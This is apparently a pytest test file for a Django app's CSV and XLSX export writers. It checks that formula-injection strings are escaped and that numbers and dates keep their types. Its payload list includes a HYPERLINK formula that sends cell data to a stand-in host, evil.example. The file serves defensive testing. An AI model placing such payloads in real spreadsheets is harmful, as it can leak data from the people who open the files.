"""The one rule that makes a cell safe, through both writers (no database needed)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from reports.exports.tables import Export, Sheet
from reports.exports.writers import cell_value, export_csv, export_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+7 495 000-00-00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_would_run_as_a_formula_is_flagged(text):
    assert cell_value(text) == (text, True)


@pytest.mark.parametrize(
    "value",
    [Decimal("-40.00"), -3, -0.25, 0, dt.date(2025, 1, 2), dt.datetime(2025, 1, 2, 3, 4), True],
)
def test_numbers_dates_and_booleans_keep_their_type(value):
    assert cell_value(value) == (value, False)


def test_lazy_translations_and_other_objects_become_plain_text():
    with override("ru"):
        value, risky = cell_value(gettext_lazy("Identified"))
    assert type(value) is str and value == "Выявлен" and not risky
    assert cell_value(None) == (None, False)
    assert cell_value("a\x00b\x1fc") == ("abc", False)  # XLSX cannot hold control characters


def _export() -> Export:
    rows = [
        [payload, Decimal("-40.00"), -3, dt.date(2025, 1, 2), gettext_lazy("Identified"), None]
        for payload in PAYLOADS
    ] + [["plain", Decimal("12.50"), 7, dt.datetime(2025, 1, 2, 3, 4), "-", ""]]
    headers = ["Name", "Amount", "Count", "Date", gettext_lazy("Stage"), "Empty"]
    sheet = Sheet("Rows", headers, lambda: iter(rows))
    return Export("test", [sheet])


def test_csv_prefixes_risky_text_with_a_quote_and_leaves_numbers_alone():
    text = export_csv(_export()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Name", "Amount", "Count", "Date", "Stage", "Empty"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
        assert row == ["'" + payload, "-40.00", "-3", "2025-01-02", "Identified", ""]
    assert rows[-1] == ["plain", "12.50", "7", "2025-01-02 03:04:00", "'-", ""]


def test_xlsx_writes_risky_text_as_typed_text_and_numbers_as_numbers():
    book = load_workbook(io.BytesIO(export_xlsx(_export())))
    ws = book["Rows"]
    assert [c.value for c in ws[1]] == ["Name", "Amount", "Count", "Date", "Stage", "Empty"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for row, payload in zip(ws.iter_rows(min_row=2), PAYLOADS, strict=False):
        name, amount, count, date, stage, empty = row
        # XML reads a stored CR back as LF; either way the cell is text.
        assert name.value == payload.replace("\r", "\n")
        assert name.data_type == "s" and name.quotePrefix
        assert amount.value == -40 and amount.data_type == "n"
        assert amount.number_format == "#,##0.00"
        assert count.value == -3 and count.data_type == "n" and not count.quotePrefix
        assert date.value == dt.datetime(2025, 1, 2) and date.number_format == "yyyy-mm-dd"
        assert stage.value == "Identified" and not stage.quotePrefix
        assert empty.value is None
    last = list(ws.iter_rows(min_row=len(PAYLOADS) + 2))[0]
    assert last[0].value == "plain" and not last[0].quotePrefix
    assert last[3].value == dt.datetime(2025, 1, 2, 3, 4)
    assert last[4].value == "-" and last[4].quotePrefix


def test_sheet_titles_follow_excels_rule():
    export = Export("t", [Sheet("Risk: A/B [x]? and a very long tail", ["a"], lambda: iter([]))])
    book = load_workbook(io.BytesIO(export_xlsx(export)))
    assert book.sheetnames == ["Risk AB x and a very long tail"]
